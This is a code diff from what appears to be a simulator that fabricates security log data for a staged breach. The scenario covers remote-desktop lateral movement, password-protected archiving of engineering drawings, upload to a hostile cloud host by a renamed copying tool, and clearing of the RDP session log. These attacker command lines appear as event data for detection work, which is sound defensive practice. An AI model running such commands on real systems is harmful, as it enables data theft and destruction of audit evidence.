@@ -5,11 +5,10 @@ import { fs01, mgmt01 } from '../company/devices.ts'
 import { broughtImage } from '../company/images.ts'
 import { hostile } from '../company/internet.ts'
 import { daHenrik } from '../company/people.ts'
-import { connect, toDevice, toHost, touchFile } from '../deed.ts'
-import { logOn } from '../logon.ts'
+import { connect, toHost, touchFile } from '../deed.ts'
 import { at } from '../moment.ts'
 import { type Process, rowOf, spawn } from '../process.ts'
-import { machineAt } from '../session.ts'
+import { openDesktop } from '../remote-desktop.ts'
 import type { Stage } from '../stage.ts'
 import { note } from '../truth.ts'
 
@@ -17,29 +16,11 @@ const STAGE_FOLDER = 'C:\\ProgramData\\Adjust'
 const uploadUrl = `https://${hostile.storage.name}/v2/put/nvk`
 
 /** Friday: by remote desktop to the file server, the drawings into archives, the archives to somebody's cloud drive. */
-export function exfiltration({ world, roster }: Stage, service: Process): Process {
-  const server = machineAt(roster, fs01, at(17, '04:30:25'))
-  const remote = spawn(world, service, at(17, '04:30:02'), 'mstsc.exe', 'mstsc.exe /v:FS-01 /restrictedadmin')
-  connect(world, remote, at(17, '04:30:06'), toDevice(fs01, 3389))
-  const arrival = logOn(world, {
-    device: fs01,
-    moment: at(17, '04:30:25'),
-    account: daHenrik,
-    type: 'RemoteInteractive',
-    from: mgmt01,
-    by: server.lsass,
-    session: 2,
-  })
-  note(
-    world,
-    'main',
-    'LateralMovement',
-    'T1021.001',
-    'The domain account opens a desktop on the file server',
-    'DeviceLogonEvents',
-    arrival.row,
-  )
-  const explorer = spawn(world, server.winlogon, at(17, '04:30:29'), 'explorer.exe', 'C:\\Windows\\Explorer.EXE', { logon: arrival.logon })
+export function exfiltration(stage: Stage, service: Process): Process {
+  const { world } = stage
+  const arrival = openDesktop(stage, service, fs01, daHenrik, at(17, '04:30:25'), ' /restrictedadmin')
+  note(world, 'main', 'LateralMovement', 'T1021.001', 'The domain account opens a desktop on the file server', arrival.row)
+  const { explorer } = arrival
   const shell = spawn(world, explorer, at(17, '04:41:50'), 'cmd.exe', '"C:\\Windows\\system32\\cmd.exe"')
 
   const archives = ['eng_a.7z', 'eng_b.7z', 'eng_c.7z'].map((name, index) =>
@@ -59,22 +40,13 @@ export function exfiltration({ world, roster }: Stage, service: Process): Proces
       '7z.exe',
       `"C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -v500m -pNvk2026 ${STAGE_FOLDER}\\${archive.fileName} D:\\Shares\\Engineering\\${share}`,
     )
-    note(
-      world,
-      'main',
-      'Collection',
-      'T1560.001',
-      `The drawings of ${share} are packed with a password`,
-      'DeviceProcessEvents',
-      rowOf(packer),
-    )
+    note(world, 'main', 'Collection', 'T1560.001', `The drawings of ${share} are packed with a password`, rowOf(packer))
     note(
       world,
       'main',
       'Collection',
       'T1074.001',
       `and lie in ${archive.fileName}`,
-      'DeviceFileEvents',
       touchFile(world, packer, at(17, clocks[index]![1]), archive),
     )
     return packer
@@ -94,15 +66,7 @@ export function exfiltration({ world, roster }: Stage, service: Process): Proces
     uploader,
     `${STAGE_FOLDER}\\svchelper.exe copy ${STAGE_FOLDER} bl:nvk --include *.7z --transfers 3 --config ${STAGE_FOLDER}\\s.conf`,
   )
-  note(
-    world,
-    'main',
-    'Exfiltration',
-    'T1567.002',
-    'A renamed copying tool sends the archives to a cloud drive',
-    'DeviceProcessEvents',
-    rowOf(upload),
-  )
+  note(world, 'main', 'Exfiltration', 'T1567.002', 'A renamed copying tool sends the archives to a cloud drive', rowOf(upload))
   for (const clock of ['07:20:14', '07:52:40', '08:31:02', '09:12:33', '09:49:58'])
     note(
       world,
@@ -110,7 +74,6 @@ export function exfiltration({ world, roster }: Stage, service: Process): Proces
       'Exfiltration',
       'T1567.002',
       'Data goes to the cloud drive',
-      'DeviceNetworkEvents',
       connect(world, upload, at(17, clock), toHost(hostile.storage, 443, '/v2/put/nvk')),
     )
   for (const [index, archive] of archives.entries())
@@ -132,7 +95,7 @@ export function exfiltration({ world, roster }: Stage, service: Process): Proces
     'wevtutil.exe',
     'wevtutil cl Microsoft-Windows-TerminalServices-LocalSessionManager/Operational',
   )
-  note(world, 'main', 'DefenseEvasion', 'T1070.001', 'The log of remote desktop sessions is cleared', 'DeviceProcessEvents', rowOf(wipe))
+  note(world, 'main', 'DefenseEvasion', 'T1070.001', 'The log of remote desktop sessions is cleared', rowOf(wipe))
 
   const main = device(fs01, { roles: ['attacked', 'compromised'], verdict: 'malicious', detailedRoles: ['Main device'] })
   const who = user(daHenrik, { roles: ['compromised'], verdict: 'malicious', tags: ['Sensitive'] })
